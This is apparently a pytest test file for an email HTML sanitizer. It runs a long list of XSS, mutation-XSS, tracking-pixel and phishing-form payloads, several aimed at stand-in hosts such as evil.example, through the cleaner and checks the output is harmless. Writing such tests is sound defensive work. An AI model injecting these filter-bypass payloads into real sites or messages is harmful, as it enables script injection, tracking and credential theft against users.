"""HTML that wants to run, phone home or deceive."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mostrador.mail.markup import clean_html, text_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/x src=//evil.example>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    '<img src="javascript:alert(1)">',
    "<img src=http://t.example/pixel.gif width=1 height=1>",
    "<img src=//t.example/pixel.gif>",
    "<img srcset='http://t.example/1.gif 1x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=cid:part1>",
    "<img title='<img src=http://t.example>' src=/x>",
    "<input type=image src=http://t.example/1.gif>",
    "<picture><source srcset=http://t.example/1.gif><img></picture>",
    "<video src=http://t.example poster=http://t.example/1.gif autoplay></video>",
    "<audio src=http://t.example autoplay></audio>",
    "<body onload=alert(1)>",
    "<body background=http://t.example/1.gif>",
    "<table background=http://t.example/1.gif><tr><td background=http://t.example/2.gif>x</table>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='https://x.example' onclick=alert(1) target=_self ping=http://t.example>x</a>",
    "<a href='https://x.example' rel=opener>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=http://evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<p style='background:url(http://t.example/1.gif)'>x</p>",
    "<p style='position:fixed;top:0'>x</p>",
    "<div class=modal id=login>x</div>",
    "<p id=csrf name=csrf>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<td colspan='1\" onmouseover=alert(1) x=\"'>x",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x",
    '"><script>alert(1)</script>',
    "<dialog open>x</dialog>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
]

TAGS = (
    "a b blockquote br code div em h1 h2 h3 h4 h5 h6 hr i li ol p pre s span strong sub sup"
    " table tbody td tfoot th thead tr u ul"
)
ALLOWED = set(TAGS.split())
SAFE_LINK = re.compile(r"(?i)^\s*(https?://|mailto:)")


class _Checker(HTMLParser):
    """Fails on the first tag or attribute that may not be there."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert (tag, name) in {
                ("a", "href"),
                ("a", "rel"),
                *[(c, s) for c in ("td", "th") for s in ("colspan", "rowspan")],
            }
            if name == "href":
                assert SAFE_LINK.match(value or ""), value
            if name == "rel":
                assert value == "noopener noreferrer nofollow"
        if tag == "a" and any(name == "href" for name, _ in attrs):
            assert ("rel", "noopener noreferrer nofollow") in attrs

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment was left: {data}")


def assert_harmless(cleaned: str) -> None:
    """Read cleaned HTML as a browser might and object to anything but plain words and safe links."""
    checker = _Checker()
    checker.feed(cleaned)
    checker.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_made_harmless(payload: str) -> None:
    for markup in (payload, f"<p>Hi</p>{payload}<p>Bye</p>", f"<table><tr><td>{payload}"):
        assert_harmless(clean_html(markup)[0])


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([piece for payload in PAYLOADS for piece in re.split(r"(?=[<> ])", payload)]),
        max_size=12,
    )
)
def test_any_mixture_of_payloads_is_made_harmless(pieces: list[str]) -> None:
    assert_harmless(clean_html("".join(pieces))[0])


def test_what_is_allowed_stays() -> None:
    markup = '<p>Hi <b>you</b></p><table><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody></table>'
    assert clean_html(markup) == (markup, 0)


def test_every_image_is_counted_and_gone() -> None:
    markup = (
        "<img src=http://a.example/1.gif><p>x<img src=//b.example/2.gif></p><img src='https://c.example/3'>"
    )
    assert clean_html(markup) == ("<p>x</p>", 3)


def test_a_safe_link_keeps_its_target_and_gets_its_rel() -> None:
    cleaned, _ = clean_html("<a href='https://x.example/?a=1&amp;b=2'>x</a>")
    assert cleaned == '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'


def test_words_of_html_keep_their_lines_and_lose_their_scripts() -> None:
    table = "<table><tr><td>a</td><td>b &amp; c</td></tr></table>"
    markup = f"<title>t</title><script>bad()</script><p>One<br>two</p>{table}"
    assert text_of(markup) == "One\ntwo\n\na b & c"


def test_html_that_would_grow_without_end_is_not_shown() -> None:
    tangled = "".join(f"<b id={number}>" for number in range(200)) + "<p>words" * 5_000
    assert clean_html(tangled) == ("", 0)
    assert text_of(tangled).count("words") == 5_000
